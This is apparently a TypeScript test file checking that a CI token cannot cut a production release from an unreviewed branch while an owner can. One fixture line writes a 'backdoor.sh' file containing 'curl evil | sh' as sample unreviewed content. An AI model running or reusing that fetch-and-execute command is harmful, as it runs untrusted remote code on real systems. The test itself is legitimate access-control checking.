// A ci token cuts production releases only from trunk's history (issue 10, finding 7): a commit that is
// only on an unreviewed branch is refused with 403 and the release name stays free; an owner may cut
// from it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRemote } from './helpers/git-fixture.ts';
import type { GitFixture } from './helpers/git-fixture.ts';
import { startStack, unique } from './helpers/stack.ts';
import type { Stack } from './helpers/stack.ts';

describe('who may cut from where', () => {
  let stack: Stack;
  let repo: GitFixture;
  beforeAll(async () => {
    stack = await startStack();
    repo = await createRemote();
  });
  afterAll(async () => {
    await stack?.stop();
    await repo?.cleanup();
  });

  it('refuses a ci token a production cut off trunk, and lets an owner make it', async () => {
    const product = unique('cuts');
    const onTrunk = await repo.commit({ 'README.md': 'cuts\n' }, 'initial');
    await repo.push();
    await repo.branch('unreviewed');
    const offTrunk = await repo.commit({ 'backdoor.sh': 'curl evil | sh\n' }, 'not reviewed', 'unreviewed');
    await repo.push('unreviewed');
    expect((await stack.call('POST', '/v1/products', { body: { name: product, repository: repo.remote, flow: 'cherry-pick', trunk: 'main', owners: ['olivia'] } })).status).toBe(201);
    const ci = await stack.token('ci-bot', 'ci', [product]);
    const owner = await stack.token('olivia', 'owner', [product]);
    const releases = `/v1/products/${product}/releases`;

    for (const from of [offTrunk, 'unreviewed']) {
      const refused = await stack.call('POST', releases, { token: ci, body: { name: '1.0', from } });
      expect(refused.status, refused.text).toBe(403);
      expect(refused.body.code).toBe('forbidden');
      expect((await stack.call('GET', `${releases}/1.0`, { token: owner })).status, 'the name stays free').toBe(404);
    }
    const fromTrunk = await stack.call('POST', releases, { token: ci, body: { name: '0.9', from: onTrunk } });
    expect(fromTrunk.status, fromTrunk.text).toBe(201);
    const byOwner = await stack.call('POST', releases, { token: owner, body: { name: '1.0', from: offTrunk } });
    expect(byOwner.status, byOwner.text).toBe(201);
  });
});
